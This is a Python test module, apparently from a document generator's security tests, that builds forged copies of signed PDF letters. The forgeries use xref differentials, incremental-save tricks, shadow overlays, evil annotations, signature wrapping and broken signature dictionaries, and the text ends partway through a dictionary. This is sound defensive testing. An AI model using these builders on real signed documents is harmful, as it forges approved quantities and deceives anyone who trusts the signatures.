"""Builders of forged letters: each takes a signed letter's bytes and returns a forgery.

The builders work on any letter docgen issues (HTML path: cross-reference streams; DOCX path:
classic tables; B-B or B-LTA) and never touch a signed byte unless the attack is about the
signed bytes (the signature dictionary's gap). They are grouped as the security notes group the
attack classes:

- differentials: an update that viewers and pyHanko resolve differently (an object listed twice,
  overlapping subsections, ``/Index`` tricks, object streams, free entries, hybrid files,
  unlisted objects, a ``/Prev`` elsewhere);
- incremental saving (ISA): an update anyone can see, or one whose xref or trailer is hidden;
- shadow halves: the after-signing half of hide, replace and hide-and-replace (overlays, form
  values, a font swap, a second page tree);
- certification: evil annotations (EAA) and sneaky signature fields (SSA);
- anything but validation data after the signature (a JavaScript action, a smuggled stream);
- metadata: ``/Info`` and XMP titles;
- the signature dictionary: forged keys in the gap, signature wrapping (SWA), broken
  dictionaries (USF).

The forged content always says the same thing, so a test can look for it: the first goods
item's quantity multiplied by 100 (``2.500`` becomes ``250.000``), :data:`FORGED_TEXT` on a
replaced page or an overlay, :data:`FORGED_TITLE` in the metadata.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable
from decimal import Decimal

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.xref import XRefSectionType

from docgen.formatting import angka
from docgen.render.pdf import ATTACHMENT_NAME, read_request
from tests.attacks.rawpdf import (
    Entry,
    Font,
    Update,
    literal,
    read,
    replace_text,
    serialize,
    stream_body,
)

Builder = Callable[[bytes], bytes]

FORGED_TEXT = "SURAT INI DIUBAH DISETUJUI 999999 TON"
"""What a forged page or overlay shows."""
FORGED_TITLE = "99/ILMATE/PERTEK/XII/2026 DISETUJUI 999999 TON"
"""The forged document title."""
FORGED_SIGNER = "Pejabat Palsu"
"""The forged /Name in a signature dictionary's gap."""


def quantity(pdf: bytes) -> tuple[str, str]:
    """The first goods item's quantity as the letter shows it, and the forged one (x 100)."""
    shown = read_request(pdf).items[0].quantity
    return angka(shown), angka(shown * Decimal(100))


def forged_request(pdf: bytes) -> bytes:
    """The letter's embedded request with the first item's quantity multiplied by 100."""
    request = json.loads(read_request(pdf).model_dump_json())
    request["items"][0]["quantity"] = str(Decimal(request["items"][0]["quantity"]) * 100)
    return json.dumps(request, indent=2).encode()


# --- reading the letter -----------------------------------------------------------------------


def _name(value: str) -> generic.NameObject:
    return generic.NameObject(value)


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(value) for value in values])


def raw_copy(dictionary: generic.DictionaryObject) -> generic.DictionaryObject:
    """A shallow copy that keeps references as references."""
    copy = generic.DictionaryObject()
    for key in dictionary:
        copy[_name(key)] = dictionary.raw_get(key)
    return copy


def helvetica() -> generic.DictionaryObject:
    """A standard Helvetica font dictionary."""
    return generic.DictionaryObject(
        {
            _name("/Type"): _name("/Font"),
            _name("/Subtype"): _name("/Type1"),
            _name("/BaseFont"): _name("/Helvetica"),
        }
    )


def first_page(update: Update) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    """Page 1's reference and dictionary."""
    ref, _ = update.reader.find_page_for_modification(0)
    page = ref.get_object()
    assert isinstance(ref, generic.IndirectObject) and isinstance(page, generic.DictionaryObject)
    return ref, page


def resources(update: Update) -> generic.DictionaryObject:
    """Page 1's resource dictionary (possibly inherited)."""
    _, found = update.reader.find_page_for_modification(0)
    found = found.get_object()
    assert isinstance(found, generic.DictionaryObject)
    return found


def page_fonts(update: Update) -> dict[str, Font]:
    """Page 1's fonts that have a ToUnicode map, by resource name (without the slash)."""
    fonts: dict[str, Font] = {}
    page_font = resources(update)["/Font"]
    for name in page_font:
        font = page_font[name]
        if "/ToUnicode" in font:
            fonts[str(name)[1:]] = Font.from_cmap(font["/ToUnicode"].data)
    return fonts


def contents(page: generic.DictionaryObject) -> list[generic.IndirectObject]:
    """The content streams of a page, as references."""
    raw = page.raw_get("/Contents")
    target = raw.get_object() if isinstance(raw, generic.IndirectObject) else raw
    if isinstance(target, generic.ArrayObject):
        return [target.raw_get(index) for index in range(len(target))]
    assert isinstance(raw, generic.IndirectObject)
    return [raw]


def forged_quantity_stream(update: Update) -> tuple[int, bytes]:
    """The number of page 1's content stream showing the quantity, and a forged body for it."""
    old, new = quantity(update.base)
    fonts = page_fonts(update)
    for ref in contents(first_page(update)[1]):
        try:
            forged = replace_text(ref.get_object().data, fonts, old, new)
        except ValueError:
            continue
        return ref.idnum, stream_body(forged)
    raise ValueError(f"page 1 does not show {old!r}")


def forged_page_objects(update: Update) -> tuple[int, list[tuple[int, bytes]]]:
    """Page 1's number, and the objects of a forged page 1 that shows only :data:`FORGED_TEXT`.

    The objects are a new font, a new content stream (uncompressed, without a backslash) and,
    last, the forged page dictionary under page 1's own number.
    """
    ref, page = first_page(update)
    font, content = update.new_number(), update.new_number()
    drawing = b"BT /DocgenForged 20 Tf 60 760 Td " + literal(FORGED_TEXT) + b" Tj ET"
    forged = raw_copy(page)
    forged[_name("/Contents")] = generic.IndirectObject(content, 0, update.reader)
    fonts = generic.DictionaryObject(
        {_name("/DocgenForged"): generic.IndirectObject(font, 0, update.reader)}
    )
    forged[_name("/Resources")] = generic.DictionaryObject({_name("/Font"): fonts})
    objects = [
        (font, serialize(helvetica())),
        (content, stream_body(drawing, compress=False)),
        (ref.idnum, serialize(forged)),
    ]
    return ref.idnum, objects


def forged_page(update: Update) -> tuple[int, bytes]:
    """Page 1's number and a forged dictionary for it; its new objects appended and listed."""
    number, objects = forged_page_objects(update)
    for new, body in objects[:-1]:
        update.add(new, body)
    return number, objects[-1][1]


def signature_ref(pdf: bytes) -> generic.IndirectObject:
    """The reference of the first signature's dictionary (the signature field's /V)."""
    signature = read(pdf).embedded_regular_signatures[0]
    ref = signature.sig_field.raw_get("/V")
    assert isinstance(ref, generic.IndirectObject)
    return ref


def attachment_ref(update: Update) -> generic.IndirectObject:
    """The reference of the embedded request's file stream."""
    names = update.reader.root["/Names"]["/EmbeddedFiles"]["/Names"]
    for index in range(0, len(names), 2):
        if str(names[index]) == ATTACHMENT_NAME:
            ref = names[index + 1]["/EF"].raw_get("/F")
            assert isinstance(ref, generic.IndirectObject)
            return ref
    raise ValueError("no embedded request")


def root_ref(update: Update) -> generic.IndirectObject:
    """The catalog's reference."""
    ref = update.reader.trailer.raw_get("/Root")
    assert isinstance(ref, generic.IndirectObject)
    return ref


def uses_xref_streams(update: Update) -> bool:
    """Whether the letter's last revision ends with a cross-reference stream."""
    xrefs = update.reader.xrefs
    info = xrefs.get_xref_container_info(xrefs.total_revisions - 1)
    return bool(info.xref_section_type is XRefSectionType.STREAM)


def native(update: Update) -> bytes:
    """Finish a well-formed update (rows in ascending order) as the letter's own kind.

    That is a cross-reference stream after an HTML-path letter, a table after a DOCX-path one.
    """
    update.entries.sort(key=lambda entry: entry.number)
    return update.stream() if uses_xref_streams(update) else update.table()


def original(update: Update, number: int) -> Entry:
    """A row pointing back at the letter's own object: where it is, or a verbatim copy of it."""
    try:
        return Entry(number, update.location(number))
    except ValueError:  # compressed in an object stream: a table row cannot point there
        return Entry(number, update.copy(number, listed=False))


def unchanged(update: Update, number: int) -> Entry:
    """A row that changes nothing for ``number``: where it is now, or free if it never was."""
    if number == 0:
        return Entry(0, 0, 65535, free=True)
    try:
        return original(update, number)
    except KeyError:
        return Entry(number, 0, 0, free=True)


# --- differentials: what viewers read is not what pyHanko reads ---------------------------------


def duplicate(update: Update, number: int, forged_body: bytes, *, stream: bool = False) -> bytes:
    """Finish with ``number`` listed twice in one section: first the forgery, then the original.

    Viewers (poppler, pdf.js, Acrobat) keep the first row of a section; pyHanko 0.38 keeps the
    last, so it compares the original with itself and sees no change.
    """
    forged = update.add(number, forged_body, listed=False)
    update.list(Entry(number, forged))
    update.list(original(update, number))
    return update.stream() if stream else update.table()


def duplicate_xref_quantity(pdf: bytes) -> bytes:
    """Item 1: the quantity on page 1 forged through a doubly listed content stream (table)."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    return duplicate(update, number, body)


def duplicate_xref_stream_quantity(pdf: bytes) -> bytes:
    """Item 1 in a cross-reference stream: ``/Index [N 1 N 1 ...]``."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    return duplicate(update, number, body, stream=True)


def duplicate_xref_page(pdf: bytes) -> bytes:
    """Item 1: page 1 replaced by another page through a doubly listed page object."""
    update = Update(pdf)
    number, body = forged_page(update)
    return duplicate(update, number, body)


def duplicate_xref_attachment(pdf: bytes) -> bytes:
    """Item 1: the embedded ``docgen-request.json`` replaced through a doubly listed stream."""
    update = Update(pdf)
    data = forged_request(pdf)
    dictionary = b"/Type /EmbeddedFile /Subtype /application#2Fjson /Params << /Size %d >>" % (
        len(data)
    )
    return duplicate(update, attachment_ref(update).idnum, stream_body(data, dictionary))


def overlapping(update: Update) -> None:
    """Rows ``N-1, N`` (the forgery) then ``N, N+1`` (the original): two runs overlapping on N."""
    number, body = forged_quantity_stream(update)
    forged = update.add(number, body, listed=False)
    update.list(unchanged(update, number - 1))
    update.list(Entry(number, forged))
    update.list(original(update, number))
    update.list(unchanged(update, number + 1))


def overlapping_subsections(pdf: bytes) -> bytes:
    """A classic table with subsections ``N-1 2`` and ``N 2``: N is listed in both."""
    update = Update(pdf)
    overlapping(update)
    return update.table()


def xref_stream_overlapping_index(pdf: bytes) -> bytes:
    """An xref stream whose ``/Index`` is ``[N-1 2 N 2 S 1]``: its ranges overlap on N."""
    update = Update(pdf)
    overlapping(update)
    return update.stream()


def xref_stream_odd_index(pdf: bytes) -> bytes:
    """An xref stream with an odd ``/Index`` (``[N 1 N 1 S]``) listing the forgery first."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    forged = update.add(number, body, listed=False)
    update.list(Entry(number, forged))
    update.list(original(update, number))
    return update.stream(index=[number, 1, number, 1, update.size])


def object_stream_redefinition(pdf: bytes) -> bytes:
    """Page 1 defined twice in one section: forged as a plain object, original in an object stream.

    pyHanko looks into object streams first and finds the original; viewers keep the section's
    first row, the forged page.
    """
    update = Update(pdf)
    number, forged_body = forged_page(update)
    forged = update.add(number, forged_body, listed=False)
    page = update.current(number)
    assert isinstance(page, generic.DictionaryObject)
    header = b"%d 0 " % number
    holder = update.new_number()
    data = header + serialize(raw_copy(page))
    holder_at = update.add(
        holder, stream_body(data, b"/Type /ObjStm /N 1 /First %d" % len(header)), listed=False
    )
    update.list(Entry(number, forged))
    update.list(Entry(number, in_stream=holder, index=0))
    update.list(Entry(holder, holder_at))
    return update.stream()


def freed_content(pdf: bytes) -> bytes:
    """An update that marks page 1's content stream free: viewers show page 1 without it."""
    update = Update(pdf)
    number, _ = forged_quantity_stream(update)
    update.list(Entry(number, 0, 1, free=True))
    return update.table()


def hybrid_xrefstm(pdf: bytes) -> bytes:
    """A hybrid update: its table lists a no-op, its trailer's ``/XRefStm`` the forgery.

    Readers that ignore ``/XRefStm`` see nothing changed; readers that honour it see the
    forged quantity.
    """
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    forged = update.add(number, body, listed=False)
    hidden = update.new_number()
    stream_at = update.offset
    rows = update.stream_rows([Entry(number, forged)])
    keys = b"/Type /XRef /W [1 4 2] /Index [%d 1] /Size %d" % (number, update.size)
    update.add(hidden, stream_body(rows, keys), listed=False)
    update.trailer_extra = b"/XRefStm %d" % stream_at
    update.copy(root_ref(update).idnum)
    return update.table()


def hidden_objects(pdf: bytes) -> bytes:
    """An update that lists only a copy of the catalog; a forged content stream sits unlisted."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    update.add(number, body, listed=False)
    update.copy(root_ref(update).idnum)
    return native(update)


def prev_elsewhere(pdf: bytes) -> bytes:
    """An update whose ``/Prev`` skips back to before the signature, forging page 1's content."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    signed = read(pdf).embedded_regular_signatures[0].signed_revision
    update.prev = update.reader.xrefs.get_startxref_for_revision(signed - 1)
    update.add(number, body)
    return update.table()


def prev_bogus(pdf: bytes) -> bytes:
    """An update whose ``/Prev`` points into the middle of the signed bytes."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    update.prev = len(pdf) // 3
    update.add(number, body)
    return update.table()


# --- incremental saving (ISA) --------------------------------------------------------------------


def isa_visible(pdf: bytes) -> bytes:
    """A plain update that replaces page 1's content stream (the forged quantity)."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    update.add(number, body)
    return native(update)


def isa_objects_only(pdf: bytes) -> bytes:
    """The forged content stream appended with ``%%EOF`` but no xref, trailer or startxref.

    Readers that follow startxref never see it; readers that rebuild a broken file by
    scanning for objects take its last definition, the forgery.
    """
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    update.add(number, body)
    return update.base + bytes(update.body) + b"%%EOF\n"


def isa_no_trailer(pdf: bytes) -> bytes:
    """The forgery and its xref table, but no trailer dictionary."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    update.add(number, body)
    return update.table(trailer=False)


def isa_startxref_to_previous(pdf: bytes) -> bytes:
    """A complete update whose final startxref still points at the letter's own last xref."""
    update = Update(pdf)
    number, body = forged_quantity_stream(update)
    update.add(number, body)
    previous = update.prev
    assert previous is not None
    return update.table(startxref=previous)


# --- shadow attacks: the half after signing ------------------------------------------------------


def incremental(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """``pdf`` with an update written by pyHanko's own incremental writer."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _appearance(writer: IncrementalPdfFileWriter, width: float, height: float) -> generic.PdfObject:
    """A form XObject: a white box with :data:`FORGED_TEXT` in it (hides what lies below)."""
    font = writer.add_object(helvetica())
    drawing = b"1 g 0 0 %.1f %.1f re f 0 g BT /DocgenForged 10 Tf 4 6 Td %s Tj ET" % (
        width,
        height,
        literal(FORGED_TEXT),
    )
    stream = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _numbers(0, 0, width, height),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/DocgenForged"): font})}
            ),
        },
        stream_data=drawing,
    )
    return writer.add_object(stream)


def _add_annotation(
    writer: IncrementalPdfFileWriter, annotation: generic.DictionaryObject
) -> generic.PdfObject:
    """Add ``annotation`` to page 1's /Annots; its reference."""
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    annotation[_name("/P")] = page_ref
    existing = page.get("/Annots")
    annots = generic.ArrayObject(list(existing.get_object()) if existing is not None else [])
    ref = writer.add_object(annotation)
    annots.append(ref)
    page[_name("/Annots")] = annots
    writer.update_container(page)
    return ref


def _add_field(writer: IncrementalPdfFileWriter, widget: generic.DictionaryObject) -> None:
    """Add a widget annotation that is also a form field (page 1 and /AcroForm /Fields)."""
    ref = _add_annotation(writer, widget)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    writer.update_container(form)


def shadow_overlay_xobject(pdf: bytes) -> bytes:
    """Hide-and-replace: page 1 gets a content stream drawing a form XObject over the text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        xobject = _appearance(writer, 400, 60)
        resources = generic.DictionaryObject(
            {_name("/XObject"): generic.DictionaryObject({_name("/DocgenOverlay"): xobject})}
        )
        drawing = generic.StreamObject(stream_data=b"q 1 0 0 1 60 380 cm /DocgenOverlay Do Q")
        writer.add_stream_to_page(0, writer.add_object(drawing), resources=resources)

    return incremental(pdf, change)


def shadow_overlay_annotation(pdf: bytes) -> bytes:
    """Hide: an opaque square annotation with its own appearance, laid over page 1's text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        annotation = generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Square"),
                _name("/Rect"): _numbers(60, 380, 460, 440),
                _name("/F"): generic.NumberObject(4),
                _name("/AP"): generic.DictionaryObject({_name("/N"): _appearance(writer, 400, 60)}),
            }
        )
        _add_annotation(writer, annotation)

    return incremental(pdf, change)


def shadow_form_value(pdf: bytes) -> bytes:
    """Replace: a new text field whose value and appearance show :data:`FORGED_TEXT`."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Widget"),
                _name("/FT"): _name("/Tx"),
                _name("/T"): generic.TextStringObject("Jumlah"),
                _name("/V"): generic.TextStringObject(FORGED_TEXT),
                _name("/DA"): generic.TextStringObject("/Helv 10 Tf 0 g"),
                _name("/Rect"): _numbers(60, 400, 460, 430),
                _name("/F"): generic.NumberObject(4),
                _name("/AP"): generic.DictionaryObject({_name("/N"): _appearance(writer, 400, 30)}),
            }
        )
        _add_field(writer, field)

    return incremental(pdf, change)


def shadow_font_swap(pdf: bytes) -> bytes:
    """Page 1's fonts get swapped ToUnicode maps in a plain update: copied text reads 9 for 2."""
    update = Update(pdf)
    fonts = resources(update)["/Font"]
    swapped_any = False
    for name in fonts:
        font = fonts[name]
        if "/ToUnicode" not in font:
            continue
        cmap_ref = font.raw_get("/ToUnicode")
        cmap = cmap_ref.get_object().data
        swapped = re.sub(rb"(<[0-9A-Fa-f]+>\s*)<0032>", rb"\1<0039>", cmap)
        if swapped != cmap:
            update.add(cmap_ref.idnum, stream_body(swapped))
            swapped_any = True
    assert swapped_any, "no font on page 1 shows the digit 2"
    return native(update)


def shadow_second_page_tree(pdf: bytes) -> bytes:
    """A second page tree: the catalog's /Pages points at a new tree whose page 1 is forged."""
    update = Update(pdf)
    catalog_ref = root_ref(update)
    catalog = catalog_ref.get_object()
    pages = catalog["/Pages"]
    kids = [pages["/Kids"].raw_get(index) for index in range(len(pages["/Kids"]))]
    tree = update.new_number()
    _, page_body = forged_page(update)
    copy = update.new_number()
    update.add(copy, re.sub(rb"/Parent \d+ 0 R", b"/Parent %d 0 R" % tree, page_body))
    new_kids = b" ".join([b"%d 0 R" % copy] + [serialize(kid) for kid in kids[1:]])
    count = int(pages["/Count"])
    update.add(tree, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (new_kids, count))
    forged_catalog = raw_copy(catalog)
    forged_catalog[_name("/Pages")] = generic.IndirectObject(tree, 0, update.reader)
    update.add(catalog_ref.idnum, serialize(forged_catalog))
    return native(update)


# --- certification attacks -------------------------------------------------------------------


def eaa_freetext(pdf: bytes) -> bytes:
    """Evil annotation: a FreeText annotation saying :data:`FORGED_TEXT`."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        annotation = generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/FreeText"),
                _name("/Rect"): _numbers(60, 400, 460, 440),
                _name("/Contents"): generic.TextStringObject(FORGED_TEXT),
                _name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                _name("/F"): generic.NumberObject(4),
            }
        )
        _add_annotation(writer, annotation)

    return incremental(pdf, change)


def eaa_stamp(pdf: bytes) -> bytes:
    """Evil annotation: a Stamp annotation with an appearance showing :data:`FORGED_TEXT`."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        annotation = generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Stamp"),
                _name("/Name"): _name("/Approved"),
                _name("/Rect"): _numbers(60, 300, 460, 360),
                _name("/F"): generic.NumberObject(4),
                _name("/AP"): generic.DictionaryObject({_name("/N"): _appearance(writer, 400, 60)}),
            }
        )
        _add_annotation(writer, annotation)

    return incremental(pdf, change)


def ssa_signature_field(pdf: bytes) -> bytes:
    """Sneaky signature: a new, unsigned, visible signature field with its own appearance."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Widget"),
                _name("/FT"): _name("/Sig"),
                _name("/T"): generic.TextStringObject("Persetujuan"),
                _name("/Rect"): _numbers(60, 200, 460, 260),
                _name("/F"): generic.NumberObject(4),
                _name("/AP"): generic.DictionaryObject({_name("/N"): _appearance(writer, 400, 60)}),
            }
        )
        _add_field(writer, field)

    return incremental(pdf, change)


# --- what may follow a signature: only validation data and timestamps ----------------------------


def catalog_open_action(pdf: bytes) -> bytes:
    """The catalog rewritten (as DSS updates do) with a JavaScript /OpenAction."""
    update = Update(pdf)
    ref = root_ref(update)
    forged = raw_copy(ref.get_object())
    forged[_name("/OpenAction")] = generic.DictionaryObject(
        {
            _name("/S"): _name("/JavaScript"),
            _name("/JS"): generic.TextStringObject(f"app.alert('{FORGED_TEXT}');"),
        }
    )
    update.add(ref.idnum, serialize(forged))
    return native(update)


def dss_smuggled_stream(pdf: bytes) -> bytes:
    """A DSS whose /Certs array carries a stream that is no certificate (a forged request)."""
    return _dss_with(pdf, forged_request(pdf))


def dss_certificate_with_payload(pdf: bytes) -> bytes:
    """A DSS whose /Certs stream is a real certificate with a payload after it.

    A lenient DER reader takes the certificate and ignores what follows: validation data on
    the outside, anything (here a forged request) inside.
    """
    signer = read(pdf).embedded_regular_signatures[0].signer_cert
    return _dss_with(pdf, signer.dump() + forged_request(pdf))


def _dss_with(pdf: bytes, stream: bytes) -> bytes:
    """The letter with an update adding ``stream`` to its DSS's /Certs (a new DSS for B-B)."""
    update = Update(pdf)
    smuggled = update.new_number()
    update.add(smuggled, stream_body(stream))
    smuggled_ref = generic.IndirectObject(smuggled, 0, update.reader)
    catalog_ref = root_ref(update)
    catalog = catalog_ref.get_object()
    dss_raw = catalog.raw_get("/DSS") if "/DSS" in catalog else None
    if isinstance(dss_raw, generic.IndirectObject):  # B-LT(A): add to the letter's own DSS
        dss = raw_copy(dss_raw.get_object())
        certs = dss_raw.get_object().get("/Certs")
        listed = [certs.raw_get(index) for index in range(len(certs))] if certs else []
        dss[_name("/Certs")] = generic.ArrayObject([*listed, smuggled_ref])
        update.add(dss_raw.idnum, serialize(dss))
        return native(update)
    dss_number = update.new_number()  # B-B: a DSS of its own, as validation data would come
    dss = generic.DictionaryObject({_name("/Certs"): generic.ArrayObject([smuggled_ref])})
    update.add(dss_number, serialize(dss))
    forged = raw_copy(catalog)
    forged[_name("/DSS")] = generic.IndirectObject(dss_number, 0, update.reader)
    update.add(catalog_ref.idnum, serialize(forged))
    return native(update)


# --- metadata (item 2) -------------------------------------------------------------------------


def _rewrite_info(pdf: bytes, key: str) -> bytes:
    """An update that sets one entry of the document information dictionary to forged text."""
    update = Update(pdf)
    ref = update.reader.trailer.raw_get("/Info")
    assert isinstance(ref, generic.IndirectObject)
    forged = raw_copy(ref.get_object())
    forged[_name(key)] = generic.TextStringObject(FORGED_TITLE)
    update.add(ref.idnum, serialize(forged))
    return native(update)


def info_title(pdf: bytes) -> bytes:
    """An update that rewrites the document information dictionary's /Title."""
    return _rewrite_info(pdf, "/Title")


def xmp_title(pdf: bytes) -> bytes:
    """An update that rewrites the XMP metadata's dc:title (and nothing else)."""
    return _rewrite_xmp(pdf, lambda xmp: _xmp_title_as(xmp, lambda _: FORGED_TITLE.encode()))


def _xmp_title_as(xmp: bytes, title: Callable[[bytes], bytes]) -> bytes:
    """The XMP with its dc:title's text replaced by ``title`` of the text it had."""
    forged, count = re.subn(
        rb"(<dc:title\b.*?<rdf:li\b[^>]*>)(.*?)(</rdf:li>)",
        lambda match: match.group(1) + title(match.group(2)) + match.group(3),
        xmp,
        count=1,
        flags=re.S,
    )
    assert count == 1, "the letter's XMP has no dc:title"
    return forged


def info_producer(pdf: bytes) -> bytes:
    """An update that writes free text into /Producer, which pyHanko itself updates."""
    return _rewrite_info(pdf, "/Producer")


def _rewrite_xmp(pdf: bytes, rewrite: Callable[[bytes], bytes]) -> bytes:
    update = Update(pdf)
    ref = update.reader.root.raw_get("/Metadata")
    assert isinstance(ref, generic.IndirectObject)
    forged = rewrite(ref.get_object().data)
    update.add(ref.idnum, stream_body(forged, b"/Type /Metadata /Subtype /XML", compress=False))
    return native(update)


def xmp_title_behind_a_date(pdf: bytes) -> bytes:
    """The XMP title with a date element inside it, and forged words after that element.

    The date is one of the values pyHanko changes on every write; the words are its element's
    tail, which a comparison that drops the element drops with it, while readers show them.
    """

    def behind_a_date(title: bytes) -> bytes:
        return title + b"<xmp:MetadataDate/> " + FORGED_TITLE.encode()

    return _rewrite_xmp(pdf, lambda xmp: _xmp_title_as(xmp, behind_a_date))


def xmp_producer(pdf: bytes) -> bytes:
    """The XMP producer, which pyHanko rewrites with its own name, set to free text."""

    def rewrite(xmp: bytes) -> bytes:
        forged, count = re.subn(
            rb'pdf:Producer="[^"]*"', b'pdf:Producer="%s"' % FORGED_TITLE.encode(), xmp
        )
        assert count == 1, "the letter's XMP has no pdf:Producer attribute"
        return forged

    return _rewrite_xmp(pdf, rewrite)


def xmp_utf16_entity(pdf: bytes) -> bytes:
    """The same XMP re-encoded as UTF-16 behind a document type: a DTD a byte search misses."""

    def rewrite(xmp: bytes) -> bytes:
        text = xmp.decode("utf-8")
        body = text[text.index("<x:xmpmeta") :]
        doctype = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]>'
        return (doctype + body).encode("utf-16")

    return _rewrite_xmp(pdf, rewrite)


# --- the signature dictionary ----------------------------------------------------------------


def gap(pdf: bytes, *, first: bool = False) -> tuple[int, int]:
    """Where the last signature's or document timestamp's gap (its /Contents hex string) lies.

    The last one is the gap no later document timestamp covers; ``first`` takes docgen's own
    signature instead (in a B-LTA letter its gap is covered by the document timestamp).
    """
    signatures = read(pdf).embedded_signatures
    signature = signatures[0] if first else signatures[-1]
    start, length, end, _ = (int(value) for value in signature.sig_object["/ByteRange"])
    assert start == 0
    assert pdf[length : length + 1] == b"<" and pdf[end - 1 : end] == b">"
    return length, end


def _der(pdf: bytes, start: int, end: int) -> bytes:
    """The signature's CMS bytes without the hex string's zero padding."""
    raw = bytes.fromhex(pdf[start + 1 : end - 1].decode())
    assert raw[:2] == b"\x30\x82", "a CMS SignedData of 256 bytes to 64 KB"
    return raw[: 4 + int.from_bytes(raw[2:4], "big")]


def gap_forged_keys(pdf: bytes, *, first: bool = False) -> bytes:
    """Item 3: /Contents as a literal string, and forged keys in the space that frees.

    Nothing outside the gap changes, so the signed bytes and the signature value still match;
    pyHanko keeps a key's first definition, so it reads the forged /Name, /Reason, /ContactInfo.
    The last signature (a B-LTA letter's newest document timestamp) unless ``first``.
    """
    start, end = gap(pdf, first=first)
    filling = (
        literal(_der(pdf, start, end))
        + b" /Name "
        + literal(FORGED_SIGNER)
        + b" /Reason "
        + literal(FORGED_TEXT)
        + b" /ContactInfo "
        + literal("palsu@example.test")
        + b" "
    )
    assert len(filling) <= end - start
    return pdf[:start] + filling.ljust(end - start, b" ") + pdf[end:]


def swa_objects_in_gap(pdf: bytes) -> bytes:
    """Signature wrapping: a forged page 1 hidden in the gap, switched on by an update.

    The /Contents hex string loses its zero padding; the space it frees holds the forged
    page's objects (inside a literal string of a made-up key, so the signature dictionary
    still parses). An update then lists page 1 twice, first as the forged page in the gap,
    then as the original, and lists the forged page's new objects where they sit in the gap.
    """
    start, end = gap(pdf)
    number, objects = forged_page_objects(Update(pdf))
    prefix = b"<" + _der(pdf, start, end).hex().upper().encode() + b"> /DocgenPad ("
    hidden = bytearray()
    offsets = {}
    for new, body in objects:
        offsets[new] = start + len(prefix) + len(hidden)
        hidden += b"%d 0 obj\n%s\nendobj\n" % (new, body)
    assert b"\\" not in hidden and hidden.count(b"(") == hidden.count(b")"), "unbalanced"
    filling = prefix + bytes(hidden) + b")"
    assert len(filling) <= end - start, "the gap is too small for the forged page"
    update = Update(pdf[:start] + filling.ljust(end - start, b" ") + pdf[end:])
    for new, _ in objects[:-1]:
        update.list(Entry(new, offsets[new]))
    update.list(Entry(number, offsets[number]))
    update.list(original(update, number))
    return update.table()


def _signature_update(pdf: bytes, replace: dict[str, bytes | None]) -> bytes:
    """An update redefining the signature dictionary, with page 1's quantity forged as well.

    ``replace`` maps a key (without the slash) to its new raw value, or None to drop the key.
    """
    update = Update(pdf)
    ref = signature_ref(pdf)
    signature = ref.get_object()
    assert isinstance(signature, generic.DictionaryObject)
    number, body = forged_quantity_stream(update)
    update.add(number, body)
    parts = [b"<<"]
    for key in signature:
        name = str(key)[1:]
        if name in replace and replace[name] is None:
            continue
        forged = replace.get(name)
        value = forged if forged is not None else serialize(signature.raw_get(key))
        parts.append(b"/" + name.encode() + b" " + value)
    for name, added in replace.items():
        if added is not None and "/" + name not in signature:
            parts.append(b"/" + name.encode() + b" " + added)
    update.add(ref.idnum, b"\n".join([*parts, b">>"]))
    return native(update)


def _usf(replace: dict[str, bytes | None]) -> Builder:
    return lambda pdf: _signature_update(pdf, replace)


def usf_in_place_zeroed(pdf: bytes) -> bytes:
    """/Contents zeroed in place: the gap keeps its length, the signature value is gone."""
    start, end = gap(pdf)
    return pdf[: start + 1] + b"0" * (end - start - 2) + pdf[end - 1 :]


def usf_in_place_empty(pdf: bytes) -> bytes:
    """/Contents emptied in place (``<>`` and spaces): the gap keeps its length."""
    start, end = gap(pdf)
    return pdf[:start] + b"<>".ljust(end - start, b" ") + pdf[end:]


USF: dict[str, Builder] = {
    "contents-missing": _usf({"Contents": None}),
    "contents-empty": _usf({"Contents": b"<>"}),
    "contents-zeroed": _usf({"Contents": b"<" + b"00" * 4096 + b">"}),
    "byterange-missing": _usf({"ByteRange": None}),
    "byterange-zero": _usf({"ByteRange": b"[0 0 0 0]"}),
    "byterange-negative": _usf({"ByteRange": b"[0 -1 -1 0]"}),
    "byterange-three": _usf({"ByteRange": b"[0 100 200]"}),
    "byterange-names": _usf({"ByteRange": b"[/A /B /C /D]"}),
